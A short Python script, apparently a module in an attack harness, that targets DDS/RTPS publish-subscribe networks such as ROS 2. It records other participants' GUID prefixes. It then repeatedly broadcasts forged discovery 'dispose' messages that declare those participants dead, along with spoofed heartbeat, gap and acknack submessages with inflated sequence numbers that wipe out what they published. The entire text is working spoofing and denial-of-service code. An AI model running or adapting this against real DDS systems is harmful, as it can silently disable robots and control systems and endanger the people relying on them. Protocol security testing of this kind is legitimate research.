"""Declares everybody else dead and takes back what they said: forged disposals, heartbeats, gaps and acknowledgements."""

import struct

import rtps
from attempts import attempt, every_tick, run

STATE = {"here": None, "known": set()}


@attempt
def listens(node):
    STATE["here"] = rtps.listen()
    return False


@every_tick
def forge(node):
    STATE["known"] |= rtps.prefixes(rtps.heard(STATE["here"]))
    for prefix in STATE["known"]:
        key = b"\0\x03\0\0" + struct.pack("<HH", 0x50, 16) + prefix + b"\0\0\x01\xc1" + struct.pack("<HH", 1, 0)
        rtps.everywhere(rtps.data(prefix, rtps.SPDP_READER, rtps.SPDP_WRITER, 90 + node.ticks, key, status=3))
        for reader, writer in ((rtps.SEDP_READER, rtps.SEDP_WRITER), (b"\0\0\0\0", b"\0\0\x12\x03")):
            rtps.everywhere(rtps.heartbeat(prefix, reader, writer, 10**6, 10**6, node.ticks + 1000))
            rtps.everywhere(rtps.gap(prefix, reader, writer, 1, 10**6))
            rtps.everywhere(rtps.acknack(prefix, reader, writer, 10**6, node.ticks + 1000))


run(rate_hz=5)
